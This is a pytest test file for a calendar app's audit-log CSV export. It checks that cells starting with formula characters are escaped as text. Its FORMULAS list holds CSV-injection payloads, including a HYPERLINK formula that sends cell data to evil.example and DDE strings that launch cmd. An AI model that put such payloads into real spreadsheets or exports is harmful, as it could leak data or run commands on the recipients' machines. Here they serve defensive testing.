"""The audit export opens in a spreadsheet as text: no cell of it runs as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest

from calendar_app.services.access import Actor, audit
from calendar_app.services.audit import EXPORT_COLUMNS, export_audit_csv
from tests.support.world import actor, build_world

# Every start a spreadsheet reads as a formula (OWASP, CSV injection).
FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1,"Öppna")',
    "+46701234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _export(session, world) -> list[dict[str, str]]:
    text = export_audit_csv(
        session,
        actor(session, "admin"),
        world.person_id,
        date(2026, 1, 1),
        date(2027, 1, 1),
        max_days=400,
    )
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("field", ["detail", "actor"])
def test_a_cell_that_would_run_as_a_formula_is_exported_as_text(session, now, field, formula):
    world = build_world(session, now)
    reader = Actor(
        user_id=None,
        role=None,
        label=formula if field == "actor" else "Ett system",
        unit_name=formula,
        remote_addr="192.0.2.1",
    )
    audit(
        session,
        reader,
        world.person_id,
        "calendar.read",
        now=now - timedelta(hours=1),
        detail=formula if field == "detail" else "vecka 48",
    )
    session.commit()

    (row,) = _export(session, world)

    assert row[field] == "'" + formula
    assert row["unit"] == "'" + formula


def test_ordinary_cells_are_exported_as_they_are(session, now):
    world = build_world(session, now)
    reader = Actor(
        user_id=None,
        role=None,
        label="Karin Berg (sjuksköterska)",
        unit_name="Vuxenpsykiatrin Växjö",
        remote_addr="2001:db8::1",
    )
    audit(session, reader, world.person_id, "booking.read", now=now, detail="besök 2026-12-01")
    session.commit()

    (row,) = _export(session, world)

    assert list(row) == list(EXPORT_COLUMNS)
    assert row["actor"] == "Karin Berg (sjuksköterska)"
    assert row["unit"] == "Vuxenpsykiatrin Växjö"
    assert row["detail"] == "besök 2026-12-01"
    assert row["from_address"] == "2001:db8::1"
    assert row["at_utc"] == now.isoformat()
